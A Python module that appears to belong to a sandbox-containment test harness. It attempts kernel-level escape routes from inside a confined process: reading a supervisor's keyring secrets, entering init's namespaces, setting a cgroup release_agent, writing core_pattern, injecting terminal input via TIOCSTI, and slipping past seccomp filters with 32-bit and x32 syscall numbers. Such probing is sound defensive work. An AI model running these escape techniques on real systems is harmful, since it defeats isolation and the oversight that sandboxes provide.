"""Attempts at the kernel itself: keys, namespaces, control groups, modules, clocks, its log, other ABIs."""

import ctypes
import mmap
import os

USER, PID, MOUNT, NET, UTS, TIME, CGROUP = 0x10000000, 0x20000000, 0x20000, 0x40000000, 0x4000000, 0x80, 0x2000000


def read_the_supervisors_keys():
    """A key in the session's ring is found by every process that descends from the session."""
    name = PARAM["key_name"].encode() + b"\0"
    buffer = ctypes.create_string_buffer(256)

    def search(ring):
        key = call(250, 10, ring, b"user\0", name, 0)
        return buffer.raw[: call(250, 11, key, buffer, 256)]

    return each(
        session=lambda: search(-3),
        user=lambda: search(-4),
        user_session=lambda: search(-5),
        request=lambda: call(249, b"user\0", name, 0, -3),
        by_number=lambda: buffer.raw[: call(250, 11, PARAM["key_number"], buffer, 256)],
        listed=lambda: [line for line in read("/proc/keys", 1 << 16).split(b"\n") if name[:-1] in line],
    )


def leave_keys():
    mark = PARAM["mark"].encode() + b"\0"
    rings = {"session": -3, "user": -4, "user_session": -5, "process": -2}
    actions = {n: lambda ring=ring: call(248, b"user\0", mark, b"x", 1, ring) for n, ring in rings.items()}
    actions["join"] = lambda: call(250, 1, 0)
    return each(**actions)


def nested_user_namespace():
    def child_with(flags):
        pid = call(56, flags | 17, 0, 0, 0, 0)
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)

    arguments = ctypes.create_string_buffer(b"".join(v.to_bytes(8, "little") for v in (USER, 0, 0, 0, 17, 0, 0, 0)))
    kinds = {"user": USER, "mount": MOUNT, "pid": PID, "net": NET, "uts": UTS, "cgroup": CGROUP, "time": TIME}
    actions = {f"unshare {name}": lambda flag=flag: call(272, flag) for name, flag in kinds.items()}
    actions.update({f"clone {name}": lambda flag=flag: child_with(flag) for name, flag in kinds.items()})
    del actions["clone time"]  # those bits are the signal's there
    actions["clone3"] = lambda: call(435, arguments, 64)
    return each(**actions)


def enter_the_namespaces_of_init():
    def enter(path):
        return call(308, os.open(path, os.O_RDONLY), 0)

    names = ("mnt", "pid", "net", "user", "ipc", "uts", "cgroup")
    paths = [f"/proc/{pid}/ns/{name}" for name in names for pid in (1, "self")]
    actions = {path: lambda path=path: enter(path) for path in paths}
    actions["pidfd"] = lambda: call(308, os.pidfd_open(1), MOUNT | PID)
    return each(**actions)


def control_groups():
    """release_agent starts a program as root outside; a group of one's own has no limit."""
    actions = {}
    for path in ("/sys/fs/cgroup", "/sys/fs/cgroup/memory", "/sys/fs/cgroup/unified"):
        actions["read " + path] = lambda path=path: os.listdir(path)
        actions["agent " + path] = lambda path=path: write(path + "/release_agent", b"/tmp/agent")
    os.makedirs("/tmp/cgroup", exist_ok=True)
    LIBC.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_char_p]
    for kind, options in ((b"cgroup", b"memory"), (b"cgroup", b"pids"), (b"cgroup2", None)):
        actions[f"mount {kind} {options}"] = lambda kind=kind, options=options: _mount(kind, options)
    return each(**actions)


def _mount(kind, options):
    if LIBC.mount(b"cgroup", b"/tmp/cgroup", kind, 0, options) != 0:
        raise OSError(ctypes.get_errno(), "mount")
    return write("/tmp/cgroup/cgroup.procs", str(os.getpid()).encode())


def large_parts_of_the_kernel():
    zeros = ctypes.create_string_buffer(256)
    return each(
        bpf=lambda: call(321, 5, zeros, 128),
        perf=lambda: call(298, zeros, 0, -1, -1, 0),
        userfaultfd=lambda: call(323, 1),
        io_uring=lambda: call(425, 8, zeros),
        fanotify=lambda: call(300, 0, 0),
        memfd_secret=lambda: call(447, 0),
        modify_ldt=lambda: call(154, 0, zeros, 16),
    )


def modules_and_boot():
    """Each call with arguments that would do little if it were let through."""
    zeros = ctypes.create_string_buffer(64)
    return each(
        init_module=lambda: call(175, zeros, 64, b"\0"),
        finit_module=lambda: call(313, 0, b"\0", 0),
        delete_module=lambda: call(176, PARAM["mark"].encode() + b"\0", 0x800),
        kexec=lambda: call(246, 0, 0, 0, 0),
        kexec_file=lambda: call(320, 0, 0, 0, b"\0", 0),
        reboot=lambda: call(169, 0xFEE1DEAD, 672274793, 0),
        swapon=lambda: call(167, b"/tmp/swap\0", 0),
        swapoff=lambda: call(168, b"/tmp/swap\0"),
        acct=lambda: call(163, b"/tmp/acct\0"),
        quotactl=lambda: call(179, 0x800007 << 8, b"/dev/vda\0", 0, zeros),
        iopl=lambda: call(172, 3),
        ioperm=lambda: call(173, 0x80, 1, 1),
    )


def magic_system_request():
    return each(help=lambda: write("/proc/sysrq-trigger", b"h"), enable=lambda: write("/proc/sys/kernel/sysrq", b"1"))


def kernel_settings():
    paths = ["kernel/core_pattern", "kernel/modprobe", "kernel/hostname", "kernel/ns_last_pid", "kernel/pid_max"]
    paths += ["vm/overcommit_memory", "vm/drop_caches", "fs/file-max", "user/max_user_namespaces"]
    paths += ["kernel/randomize_va_space", "net/ipv4/ip_forward", "kernel/core_uses_pid", "fs/protected_symlinks"]
    actions = {path: lambda path=path: write("/proc/sys/" + path, b"|/tmp/" + PARAM["mark"].encode()) for path in paths}
    actions["kcore"] = lambda: read("/proc/kcore", 16)
    actions["kallsyms"] = lambda: {line.split()[0] for line in read("/proc/kallsyms").split(b"\n")[:50] if line}
    return each(**actions)


def change_the_clock():
    late = struct.pack("ll", 4_000_000_000, 0)
    step = ctypes.create_string_buffer(struct.pack("I4xq", 0x8001, 500_000) + bytes(256))
    return each(
        clock_settime=lambda: call(227, 0, late),
        settimeofday=lambda: call(164, late, 0),
        adjtimex=lambda: call(159, step),
        clock_adjtime=lambda: call(305, 0, step),
        time_namespace=lambda: write("/proc/self/timens_offsets", b"monotonic 1000 0"),
    )


def change_the_host_name():
    mark = PARAM["mark"].encode()
    return each(host=lambda: call(170, mark, len(mark)), domain=lambda: call(171, mark, len(mark)))


def kernel_log():
    buffer = ctypes.create_string_buffer(1 << 14)
    return each(
        read=lambda: buffer.raw[: call(103, 3, buffer, len(buffer))][:40],
        size=lambda: call(103, 10, 0, 0),
        clear=lambda: call(103, 5, 0, 0),
        console=lambda: call(103, 6, 0, 0),
        write=lambda: write("/dev/kmsg", PARAM["mark"].encode()),
    )


def type_into_a_terminal():
    import fcntl

    def push(fd):
        for request in (0x5412, 0x100005412):
            LIBC.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
            if LIBC.ioctl(fd, request, b"x") != 0:
                raise OSError(ctypes.get_errno(), "TIOCSTI")

    def own_terminal():
        main, other = os.openpty()
        fcntl.ioctl(other, 0x540E, 0)  # TIOCSCTTY
        push(other)

    def terminal():
        return os.open("/dev/tty", os.O_RDWR)

    return each(stdin=lambda: push(0), stdout=lambda: push(1), tty=terminal, own=own_terminal)


def other_personality():
    return each(no_random=lambda: call(135, 0x0040000), read_implies_exec=lambda: call(135, 0x0400000))


def numbers_of_a_32_bit_program():
    """unshare has another number there: a filter that looks at numbers alone lets it through."""
    # push rbx; mov eax, 310 (unshare there); mov ebx, CLONE_NEWUSER; int 0x80; pop rbx; ret
    code = bytes.fromhex("53 b836010000 bb00000010 cd80 5b c3")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    return f"DONE {result}"


def numbers_of_x32():
    return f"DONE {call(0x40000000 + 272, USER)}"


def calls_of_tomorrow():
    actions = {str(number): lambda number=number: call(number, 0, 0, 0, 0) for number in range(463, 480)}
    return each(**actions)


def a_filter_of_ones_own():
    """A filter that says yes cannot undo one that says no."""
    step = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
    steps = ctypes.create_string_buffer(step)
    program = ctypes.create_string_buffer(struct.pack("H6xQ", 1, ctypes.addressof(steps)))
    return each(own=lambda: call(157, 22, 2, ctypes.addressof(program)), unshare=lambda: call(272, USER))


def calls_with_the_number_of_another():
    """Calls that take a process and are seldom thought of: to look into it, to move its pages, to take its limits."""
    page = ctypes.c_long(PARAM["address"] & ~4095)
    status, node, one = ctypes.c_int(0), ctypes.c_int(0), ctypes.c_ulong(1)
    words = (ctypes.c_long * 32)()
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0) + bytes(128))
    address = ctypes.addressof
    actions = {"name_to_handle": lambda: call(303, -100, b"/usr\0", handle, address(status), 0)}
    for name, pid in {"init": 1, "sentinel": PARAM["sentinel"], "supervisor": PARAM["supervisor"]}.items():
        actions[f"kcmp {name}"] = lambda pid=pid: call(312, os.getpid(), pid, 1, 0, 0)
        moved = (1, address(page), address(node), address(status), 0)
        actions[f"move_pages {name}"] = lambda pid=pid, moved=moved: call(279, pid, *moved)
        actions[f"migrate {name}"] = lambda pid=pid: call(256, pid, 64, address(one), address(one))
        actions[f"robust list {name}"] = lambda pid=pid: call(274, pid, address(words), address(words) + 8)
        actions[f"limits {name}"] = lambda pid=pid: call(302, pid, 7, 0, address(words))
        actions[f"release {name}"] = lambda pid=pid: call(448, os.pidfd_open(pid), 0)
        actions[f"advise {name}"] = lambda pid=pid: call(440, os.pidfd_open(pid), address(words), 1, 21, 0)
        actions[f"clock of {name}"] = lambda pid=pid: call(228, (~pid << 3) | 2, words)
    return each(**actions)


def a_notifier_of_ones_own():
    """A filter that asks this process, which answers "go on": the call still has to pass ours."""
    steps = b"".join(
        [
            struct.pack("HBBI", 0x20, 0, 0, 0),  # the call's number
            struct.pack("HBBI", 0x15, 0, 1, 272),  # unshare:
            struct.pack("HBBI", 0x06, 0, 0, 0x7FC00000),  # ask
            struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000),  # anything else: yes
        ]
    )
    space = ctypes.create_string_buffer(steps)
    program = ctypes.create_string_buffer(struct.pack("H6xQ", 4, ctypes.addressof(space)))
    listener = call(317, 1, 8, program)  # SECCOMP_FILTER_FLAG_NEW_LISTENER
    child = os.fork()
    if child == 0:
        try:
            call(272, USER)
            os._exit(1)
        except OSError as error:
            os._exit(100 + error.errno % 100)
    LIBC.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
    os.set_blocking(listener, False)
    notice = ctypes.create_string_buffer(80)
    answered = 0
    end = time.monotonic() + 0.5
    while time.monotonic() < end and os.waitpid(child, os.WNOHANG)[0] == 0:
        import select

        if not select.select([listener], [], [], 0.1)[0]:
            continue
        if LIBC.ioctl(listener, 0xC0502100, notice) == 0:  # SECCOMP_IOCTL_NOTIF_RECV
            answer = ctypes.create_string_buffer(notice.raw[:8] + struct.pack("qiI", 0, 0, 1))  # CONTINUE
            answered += LIBC.ioctl(listener, 0xC0182101, answer) == 0
    return f"asked and answered {answered} times"


def every_option_of_prctl():
    """Among them: who may trace us, timers, speculation, names, the memory's layout, back to being dumpable."""
    done = []
    for option in range(1, 80):
        if option in (21, 22, 59):  # seccomp; every later call as a signal to this process
            continue
        for arguments in ((1, 0, 0, 0), (PARAM["sentinel"], 0, 0, 0), (0xFFFFFFFF, 1, 4096, 0)):
            if option == 1 and arguments[0] != 1:
                continue  # signals that would end this process with its parent
            if LIBC.prctl(option, *(ctypes.c_ulong(a) for a in arguments)) >= 0:
                done.append(option)
    return f"options taken: {sorted(set(done))}"
